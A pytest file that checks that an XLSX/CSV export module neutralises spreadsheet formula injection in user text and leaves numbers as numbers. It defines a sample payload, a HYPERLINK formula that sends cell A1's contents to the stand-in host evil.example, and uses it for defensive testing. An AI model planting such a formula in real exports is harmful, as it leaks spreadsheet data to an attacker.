"""Formula injection: no text from a user ever becomes a live formula in an XLSX or CSV export."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.xlsx import build_workbook, csv_value, neutralise, unneutralise

PAYLOAD = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("text", [PAYLOAD, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_starts_like_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text
    assert unneutralise(neutralise(text)) == text


@pytest.mark.parametrize("value", ["Factuur 12", "'gewoon", "", None, 5, Decimal("-12.50"), date(2025, 1, 1)])
def test_harmless_values_and_numbers_stay_as_they_are(value):
    assert neutralise(value) == value


def test_xlsx_stores_the_payload_as_text_and_negative_amounts_as_numbers():
    content = build_workbook([("Blad", [PAYLOAD, "Bedrag"], [[PAYLOAD, Decimal("-250.00")], ["-", -3]])])
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows())
    header, first, second = rows
    for cell in (header[0], first[0], second[0]):
        assert cell.data_type == "s", cell.value
        assert not str(cell.value).startswith("=")
    assert first[0].value == "'" + PAYLOAD
    assert first[1].data_type == "n" and first[1].value == -250
    assert second[1].data_type == "n" and second[1].value == -3


def test_csv_value_neutralises_text_only():
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerow([csv_value(PAYLOAD), csv_value(None), csv_value(7)])
    assert buffer.getvalue().startswith("\"'=HYPERLINK(") or buffer.getvalue().startswith("'=HYPERLINK(")
